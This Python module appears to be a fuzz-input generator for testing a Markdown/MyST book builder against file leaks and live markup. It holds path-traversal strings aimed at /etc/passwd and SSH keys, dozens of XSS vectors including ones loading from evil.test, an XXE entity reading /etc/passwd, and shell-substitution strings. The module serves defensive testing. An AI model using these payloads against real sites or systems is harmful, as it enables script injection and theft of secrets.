"""What is put into inputs: paths that lead out of the book, markup that runs, odd characters.

Every path leads to a file that the campaign has planted outside of its book, each with `SECRET` in
it, or to one that many machines have.  Every live construct would call ``go()``.
"""

from __future__ import annotations

import random
from collections.abc import Sequence

#: Stands in every planted file and in no input: whatever shows it has read outside of the book.
SECRET = "zq-nothing-of-this-machine-may-get-out-zq"
#: The names of the planted files, beside the folder of the book.
PLANTED = ("secret.txt", "secret.md", "secret.py", "secret.svg", "secret.csv", "secret.toml")
#: Names inside of the book that are symbolic links to the planted files, or to their folder.
LINKS = ("img/link.svg", "chapter_toy/link.txt", "chapter_toy/outside")

#: How a path can be written; ``{}`` is a path that goes up to the folder above the book.
SPELLINGS = (
    "{}",
    "./{}",
    "../chapter_toy/{}",
    "<{}>",
    "file:{}",
    "{}#part",
    "{}?x",
    ".\\{}",
    "{} ",
    "\t{}",
    "x/../{}",
)

#: Everything that can name a file; ``{}`` is the path.
SYNTAXES = (
    "[key]({})",
    "![]({})",
    '[key]({} "title")',
    '![a picture](<{}> "title")',
    "[key][ref]\n\n[ref]: {}",
    "![key][ref]\n\n[ref]: {} 'title'",
    "[ref]\n\n[ref]: <{}>",
    "<{}>",
    "{{download}}`key <{}>`",
    "{{download}}`{}`",
    "{{doc}}`{}`",
    "{{any}}`{}`",
    "{{literalinclude}}`{}`",
    "```{{include}} {}\n```",
    "~~~{{literalinclude}} {}\n:lines: 1-9\n~~~",
    "```{{figure}} {}\nA caption.\n```",
    "```{{image}} {}\n:alt: key\n```",
    ":::{{figure-md}}\n![]({})\n:::",
    "```{{raw}} html\n:file: {}\n```",
    "```{{csv-table}} A table\n:file: {}\n```",
    "```{{math}}\n\\input{{{}}}\n```",
    "$\\includegraphics{{{}}}$",
    "```{{code-include}} {}\n```",
    "```{{eval-rst}}\n.. include:: {}\n```",
    "```{{eval-rst}}\n.. raw:: html\n   :file: {}\n```",
    "```{{result-tables}} {}\n```",
    "```{{bibliography}} {}\n```",
    "```{{toctree}}\n{}\n```",
    "```{{graphviz}} {}\n```",
    "```{{code-cell}}\n%load -s secret {}\n```",
    "```{{code-cell}}\n%load {}\n```",
    "```{{living}} write-on\n:models: {}\n```",
    '<img src="{}">',
    '<a href="{}">key</a>',
    "<a href={} download>key</a>",
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<iframe src="{}"></iframe>',
    '<link rel="stylesheet" href="{}">',
    '<video poster="{}"><source src="{}"></video>',
    '<img srcset="{} 2x">',
    '<p style="background: url({})">a</p>',
    "<style>@import '{}';</style>",
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="{}"/></svg>',
    '<svg><use xlink:href="{}#a"/></svg>',
    '<table background="{}"><tr><td>a</td></tr></table>',
    "- a list\n\n  ![]({})",
    "> ![]({})",
    "| a |\n|---|\n| ![]({}) |",
    "a note[^1]\n\n[^1]: ![]({})",
    "# A heading ![]({})",
    "![![]({})](a.svg)",
)

#: Markup that would run, frame, restyle or ask another host.
LIVE = (
    "<script>go()</script>",
    "<SCRIPT src=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>go()</scr</script>ipt>",
    "A <img src=x onerror='go()'> b <svg onload=go()> c.",
    "<svg/onload=go()>",
    "<svg><script>go()</script></svg>",
    "<svg><a xlink:href='javascript:go()'><text>x</text></a></svg>",
    "<svg><animate onbegin=go() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src='javascript:go()'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=go()&gt;'>",
    "<iframe src=javascript:go()></iframe>",
    "<iframe srcdoc='&lt;script>go()&lt;/script>'></iframe>",
    "<object data='data:text/html,<script>go()</script>'></object>",
    "<embed src='javascript:go()'>",
    "<form action='javascript:go()'><button>a</button></form>",
    "<button formaction=javascript:go()>a</button>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=javascript:go()'>",
    "<style>body { display: none } @import '//evil.test/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.test/x)'>a</p>",
    "<details open ontoggle=go()>a</details>",
    "<a href='jav&#x09;ascript:go()'>a</a>",
    "<a href='JaVa&#x53;cript:go()'>a</a>",
    "<a href=' \x01javascript:go()'>a</a>",
    "<a href='data:text/html,<script>go()</script>'>a</a>",
    "<a href='vbscript:go()'>a</a>",
    "[a](javascript:go()) <javascript:go()> ![b](javascript:go())",
    "[a](<java\tscript:go()>)",
    "[a]: javascript:go()\n\n[a]",
    "[a](data:text/html;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+)",
    "```{raw} html\n<script>go()</script>\n```",
    ":::{raw} html\n<script>go()</script>\n:::",
    "> - ```{raw} html\n>   <script>go()</script>\n>   ```",
    "```{eval-rst}\n.. raw:: html\n\n   <script>go()</script>\n```",
    "{raw-html}`<script>go()</script>`",
    "| a |\n|---|\n| <b onclick=go()>b</b> |",
    "$\\href{javascript:go()}{a} <script>go()</script>$",
    "$\\htmlData{x=y}{a} \\htmlStyle{position:fixed}{b} \\url{javascript:go()}$",
    "$$\n<script>go()</script>\n$$",
    "![<script>go()</script>](a.svg)",
    "![x](a.svg){onerror=go()}",
    "# A heading <script>go()</script>",
    "<!-- \n--> <script>go()</script>",
    "<!--[if IE]><script>go()</script><![endif]-->",
    "&lt;script&gt;go()&lt;/script&gt;",
    "<img src='x' alt='`'><script>go()</script>`'>",
    "<x onclick=go() tabindex=1 onfocus=go() autofocus>a</x>",
    "<?xml-stylesheet href='javascript:go()'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)

#: What breaks readers of texts: marks of every dialect, ends of lines, invisible characters.
NASTY = [
    *("<!--", "-->", "\n<!--\n", "\n-->\n", "```", "\n```\n", "\n```{.python .input}\n"),
    *("$$", "\n$$\n", "\r", "\r\n", "\n\n", "\ufeff", "\x00", "\x0c", "\x85", "\u2028", "\u202e"),
    *("\u0301", "\u00a0", "+++", '\n+++ {"lang"\n', "\n---\n", "\n===\n", "\n# ", "\n> ", "\n- "),
    *("\n    ", "\t", "%", "\n~~~\n", ":label:`a`", "\n:label:`fig_a`\n", ":numref:`", "`", "``"),
    *("[**", "**]", "(~~", "![", "](", "](", "\n:begin_tab:`x`\n", "\n:end_tab:\n", "<script>"),
    *("\n<pre>", "{}", "\\", "\n## Những người thực hiện\n", "\n*dịch đoạn phía trên*\n"),
    *("\n![a](b.svg)\n", "\n```{code-cell}\n", "\n:eqlabel:`e`", "x" * 5000),
]

#: More of the kind, for sections, tables and settings.
ODD = [
    *('\n+++ {"lang": "en"}\n\n', '\n+++ {"lang": "vi"}\n\n', '{"label": "eq-a"}', "\n+++\n"),
    *('\n+++ {"lang": "en", "silence": {"pair": ""}}\n\n', '"', "'", ",", ";", "=1+1", "@x", "-"),
    *("{glue:text}`norm:.2f`", "{glue:text}`a:{}`", "[a](#eq-state)", "(#sec-state)", "| a |\n"),
    *("null", "true", "[]", "-1", "1e999", "9" * 40, "!!python/object:x.y", "*a", "&a ", "<<: "),
    *("\x1b[2J", "\ud7ff", "\U0001f600", "e\u0301\u0302", "Ð", "ô", "hoà", "\u200b", "\u00ad"),
    *("%s%n", "{0.__class__}", "__proto__", "constructor", "toString", "$(id)", "`id`", "../"),
]


def path(rng: random.Random) -> str:
    """Return a path that leads out of the book, or to a link in it that does."""
    target = rng.choice((*PLANTED, "", "no-such-file", "host/id_rsa"))
    choice = rng.random()
    if choice < 0.5:
        spelled = "../" * rng.randint(2, 5) + target
    elif choice < 0.6:
        spelled = "{ROOM}/" + target
    elif choice < 0.7:
        spelled = rng.choice(
            ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "~/.ssh/id_rsa")
        )
    elif choice < 0.8:
        spelled = "../" + rng.choice(LINKS) + rng.choice(("", "", "/" + target))
    elif choice < 0.9:
        spelled = "../img/" + "../" * rng.randint(1, 4) + target
    else:
        spelled = "/" + "../" * rng.randint(1, 3) + target
    if rng.random() < 0.2:
        spelled = rng.choice(
            (
                spelled.replace("..", "%2e%2e"),
                spelled.replace("/", "%2f"),
                spelled.replace("/", "\\"),
                spelled.replace("..", ".\u200b."),
                spelled.replace("../", "..//"),
                spelled.replace("/", "/./"),
                spelled.replace("..", "&#46;&#46;"),
                f"file://{spelled}",
                f"FILE:///{spelled}",
            )
        )
    return rng.choice(SPELLINGS).format(spelled) if rng.random() < 0.3 else spelled


def reference(rng: random.Random) -> str:
    """Return markup that names a file outside of the book, in one of the syntaxes."""
    named = path(rng)
    return rng.choice(SYNTAXES).replace("{{", "{").replace("}}", "}").replace("{}", named)


def payload(rng: random.Random) -> str:
    """Return a reference, something live, or something that breaks."""
    choice = rng.random()
    if choice < 0.35:
        return f"\n\n{reference(rng)}\n\n" if rng.random() < 0.7 else reference(rng)
    if choice < 0.6:
        return f"\n\n{rng.choice(LIVE)}\n\n" if rng.random() < 0.7 else rng.choice(LIVE)
    return rng.choice(NASTY if choice < 0.85 else ODD)


def noise(rng: random.Random) -> str:
    """Return a few characters from anywhere in Unicode but the surrogates."""
    planes = ((32, 126), (0, 31), (0x80, 0x24F), (0x300, 0x36F), (0x1EA0, 0x1EF9), (0x2000, 0x206F))
    planes += ((0xFE00, 0xFFFF), (0x10000, 0x10FFFF))
    return "".join(chr(rng.randint(*rng.choice(planes))) for _ in range(rng.randint(1, 5)))


def mutated(
    text: str, rng: random.Random, pieces: Sequence[str] = (), edits: int = 4, cut: float = 0.1
) -> str:
    """Return a text with some edits: something is put in, cut out, doubled, or moved.

    Parameters
    ----------
    text : str
        A good input.
    rng : random.Random
        Decides.
    pieces : sequence of str
        What to put in, beside what :func:`payload` and :func:`noise` give.
    edits : int
        How many edits there are at most.
    cut : float
        How often the text is cut off somewhere.
    """
    for _ in range(rng.randint(0, edits)):
        at = rng.randint(0, len(text))
        end = min(len(text), at + rng.choice((0, 0, 0, 1, 2, 5, 20, 40)))
        way = rng.random()
        if way < 0.15:
            added = text[at : at + rng.randint(1, 200)] * 2
        elif way < 0.25:
            other = rng.randint(0, len(text))
            added = text[other : other + rng.randint(1, 200)]
        elif way < 0.4:
            added = noise(rng)
        elif pieces and way < 0.7:
            added = rng.choice(pieces)
        else:
            added = payload(rng)
        text = text[:at] + added + text[end:]
    return text[: rng.randint(0, len(text))] if rng.random() < cut else text


def damaged(content: bytes, rng: random.Random) -> bytes:
    """Return bytes with some damage: flipped, cut out, cut off, in another encoding."""
    for _ in range(rng.randint(1, 3)):
        at = rng.randint(0, len(content))
        end = min(len(content), at + rng.randint(0, 30))
        added = rng.choice((b"", rng.randbytes(rng.randint(1, 4)), b"\n+++\n", b'"\n"', b"\x00"))
        content = content[:at] + added + content[end:]
    way = rng.random()
    if way < 0.1:
        return content[: rng.randint(0, len(content))]
    if way < 0.15:
        return content.decode("utf-8", "replace").encode(rng.choice(("utf-16", "utf-8-sig")))
    return content
